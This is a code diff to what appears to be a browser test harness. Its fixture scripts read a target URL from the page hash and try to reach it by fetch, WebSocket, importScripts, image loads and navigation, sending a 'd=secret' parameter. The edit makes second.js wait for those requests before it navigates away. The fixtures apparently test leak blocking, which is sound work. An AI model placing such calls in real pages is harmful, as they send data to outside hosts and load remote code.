@@ -57,7 +57,9 @@ const files = {
   'worker.js': `const to = decodeURIComponent(location.hash.slice(1)); fetch(to, {mode: 'no-cors'}); new WebSocket(to.replace('https:', 'wss:')); importScripts(to + '/w.js');`,
   'service.js': `fetch(new URL(location).searchParams.get('to'), {mode: 'no-cors'});`,
   'second.html': '<!doctype html><meta charset=utf-8><title>second</title><p>second<script src="./second.js"></script>',
-  'second.js': `const to = decodeURIComponent(location.hash.slice(1)); fetch(to + '/?d=secret', {mode: 'no-cors'}).catch(() => {}); new Image().src = to + '/s.png'; location.href = to + '/?d=secret';`,
+  // What it asks for is settled before it goes away itself: a document that is replaced takes its
+  // requests with it, and those of one that left at once were those that had a connection by then.
+  'second.js': `const to = decodeURIComponent(location.hash.slice(1)), image = new Image(); Promise.allSettled([fetch(to + '/?d=secret', {mode: 'no-cors'}), new Promise((done) => { image.onload = image.onerror = done; image.src = to + '/s.png'; })]).then(() => { location.href = to + '/?d=secret'; });`,
   'dot.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><circle cx="4" cy="4" r="4"/></svg>',
 };
 
